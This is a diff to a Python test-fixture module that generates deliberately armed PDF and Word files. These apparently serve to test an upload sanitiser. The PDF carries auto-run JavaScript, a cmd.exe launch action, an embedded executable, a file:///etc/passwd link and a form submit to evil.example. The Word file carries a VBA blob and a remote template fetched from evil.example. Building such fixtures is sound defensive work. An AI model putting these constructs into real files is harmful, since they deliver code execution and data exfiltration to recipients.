@@ -7,6 +7,7 @@ import zlib
 
 import pikepdf
 from django.core.files.uploadedfile import SimpleUploadedFile
+from pikepdf import Array, Dictionary, Name, String
 from PIL import Image
 
 OFFICE = "application/vnd.openxmlformats-officedocument."
@@ -17,6 +18,7 @@ MAIN_PARTS = {
 }
 EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"This program cannot be run in DOS mode." * 20
 HTML = b"<!doctype html><script>alert(document.cookie)</script>"
+CAMERA = b"Sunqar-7 of Aigerim"
 OLD_WORD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)
 
 
@@ -37,6 +39,40 @@ def pdf(pages: int = 2, text: str = "", **options) -> bytes:
 
 def locked_pdf() -> bytes:
     return pdf(encryption=pikepdf.Encryption(user="secret", owner="secret"))
+
+
+def armed_pdf() -> bytes:
+    """One page that does all that a PDF can do by itself, and links to the web as it may."""
+    made = pikepdf.new()
+    made.add_blank_page()
+    page = made.pages[0].obj
+    page.Contents = made.make_stream(b"0 0 m")
+    script = made.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
+    made.Root.OpenAction = script
+    made.Root.AA = Dictionary(WC=script)
+    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))
+    made.attachments["tool.exe"] = EXE
+    page.AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("cmd.exe"), Next=Array([script])))
+    actions = [
+        Dictionary(S=Name.URI, URI=String("https://otinim.example/")),
+        Dictionary(S=Name.URI, URI=String("javascript:alert(1)")),
+        Dictionary(S=Name.URI, URI=String("file:///etc/passwd")),
+        Dictionary(S=Name.GoToR, F=String("other.pdf")),
+        Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")),
+    ]
+    notes = [Dictionary(Subtype=Name.Link, A=action) for action in actions]
+    notes += [Dictionary(Subtype=Name.RichMedia), Dictionary(Subtype=Name.FileAttachment)]
+    for note in notes:
+        note.Type, note.Rect = Name.Annot, Array([0, 0, 9, 9])
+    field = made.make_indirect(
+        Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"), Rect=Array([0, 0, 9, 9]),
+                   AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("AFNumber()"))))
+    )  # fmt: skip
+    page.Annots = Array([made.make_indirect(note) for note in notes] + [field])
+    made.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=String("<xdp/>"))
+    buffer = io.BytesIO()
+    made.save(buffer)
+    return buffer.getvalue()
 
 
 def pdf_bomb(megabytes: int) -> bytes:
@@ -67,6 +103,16 @@ def picture(kind: str = "JPEG", size: tuple[int, int] = (300, 200)) -> bytes:
     return buffer.getvalue()
 
 
+def photo(kind: str = "JPEG", orientation: int = 6) -> bytes:
+    """As a phone makes it: turned, with the place and the camera's name."""
+    exif = Image.Exif()
+    exif[0x0112], exif[0x010F] = orientation, CAMERA.decode()
+    exif.get_ifd(0x8825).update({1: "N", 2: (51.0, 7.0, 30.0)})
+    buffer = io.BytesIO()
+    Image.effect_noise((60, 40), 50).convert("RGB").save(buffer, kind, exif=exif)
+    return buffer.getvalue()
+
+
 def png_of_size(width: int, height: int) -> bytes:
     """Only says that it is so large."""
 
@@ -89,6 +135,20 @@ def office(kind: str = "docx", *, entries: int = 0, megabytes: int = 0) -> bytes
             with archive.open("word/document.xml", "w") as part:
                 for _number in range(megabytes):
                     part.write(bytes(2**20))
+    return buffer.getvalue()
+
+
+def armed_office() -> bytes:
+    """A document with a program, a template that loads by itself, a link, and a photo."""
+    relation = '<Relationship Id="{}" Type="http://schemas.example/{}" Target="{}" TargetMode="External"/>'
+    relations = relation.format("r1", "attachedTemplate", "https://evil.example/t.dotm")
+    relations += relation.format("r2", "hyperlink", "https://otinim.example/")
+    buffer = io.BytesIO(office())
+    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("word/vbaProject.bin", EXE)
+        archive.writestr("word/document.xml", "<w:document/>")
+        archive.writestr("word/_rels/settings.xml.rels", f"<Relationships>{relations}</Relationships>")
+        archive.writestr("word/media/image1.jpeg", photo())
     return buffer.getvalue()
 
 
